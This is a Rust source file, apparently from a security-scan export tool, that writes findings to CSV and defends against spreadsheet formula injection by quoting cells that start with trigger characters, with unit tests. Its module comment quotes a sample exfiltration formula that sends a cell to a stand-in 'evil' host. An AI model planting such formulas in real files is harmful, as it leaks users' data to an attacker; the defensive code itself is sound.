//! CSV (RFC 4180, header row, CRLF line ends) for spreadsheets and ticket imports.
//!
//! Vendor titles, paths and descriptions are attacker-controlled text: a finding titled
//! `=HYPERLINK("http://evil/?"&A1)` would run as a formula when the file is opened in a
//! spreadsheet. Every text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return is therefore prefixed with a single quote `'`, which spreadsheets treat as "this is
//! text" (OWASP's CSV injection advice). Numeric columns (`times_seen`) are scansync's own
//! numbers and are left alone, so they still sort as numbers.

use super::{finding_json, ExportError};
use crate::store::FindingRow;
use serde_json::Value;
use std::borrow::Cow;
use std::io::Write;

/// The header row, in column order: the JSON Lines fields without `raw`.
/// Columns are only ever added at the end, so a spreadsheet or import reading by position
/// keeps working.
pub const CSV_COLUMNS: [&str; 22] = [
    "fingerprint",
    "scan",
    "vendor",
    "instance",
    "bind_to",
    "severity",
    "state",
    "title",
    "location",
    "first_seen",
    "last_seen",
    "times_seen",
    "cwe",
    "owasp",
    "rule_id",
    "description",
    "remediation",
    "vendor_url",
    "triage_reason",
    "triage_by",
    "triage_until",
    "id",
];

/// A text cell made safe to open in a spreadsheet (see the module docs).
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

pub struct CsvWriter<W: Write> {
    out: ::csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Result<CsvWriter<W>, ExportError> {
        let mut out = ::csv::WriterBuilder::new()
            .terminator(::csv::Terminator::CRLF)
            .from_writer(out);
        out.write_record(CSV_COLUMNS)?;
        Ok(CsvWriter { out })
    }

    pub fn row(&mut self, row: &FindingRow) -> Result<(), ExportError> {
        let m = finding_json(row, true, false);
        let cells = CSV_COLUMNS.iter().map(|col| match m.get(*col) {
            Some(Value::String(s)) => neutralise_formula(s).into_owned(),
            Some(Value::Null) | None => String::new(),
            Some(other) => other.to_string(),
        });
        self.out.write_record(cells)?;
        Ok(())
    }

    pub fn finish(self) -> Result<W, ExportError> {
        self.out
            .into_inner()
            .map_err(|e| ExportError::Io(e.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::super::testrows::code_row;
    use super::*;

    #[test]
    fn every_formula_trigger_is_neutralised() {
        for lead in ["=", "+", "-", "@", "\t", "\r"] {
            let cell = format!("{lead}1+1");
            assert_eq!(neutralise_formula(&cell), format!("'{cell}"), "{lead:?}");
        }
        assert_eq!(neutralise_formula("SQL injection"), "SQL injection");
        assert_eq!(neutralise_formula(""), "");
        assert_eq!(neutralise_formula(" =1"), " =1");
    }

    #[test]
    fn header_matches_the_full_json_keys() {
        let mut want: Vec<&str> = CSV_COLUMNS.to_vec();
        want.sort();
        let m = finding_json(&code_row("t"), true, false);
        let keys: Vec<&str> = m.keys().map(String::as_str).collect();
        assert_eq!(keys, want);
    }

    #[test]
    fn numeric_column_is_not_quoted_and_missing_values_are_empty() {
        let mut row = code_row("t");
        row.finding.owasp = None;
        let mut w = CsvWriter::new(Vec::new()).unwrap();
        w.row(&row).unwrap();
        let text = String::from_utf8(w.finish().unwrap()).unwrap();
        let mut lines = text.split("\r\n");
        assert_eq!(lines.next().unwrap(), CSV_COLUMNS.join(","));
        let cells: Vec<&str> = lines.next().unwrap().split(',').collect();
        assert_eq!(cells[11], "3");
        assert_eq!(cells[13], "");
    }
}
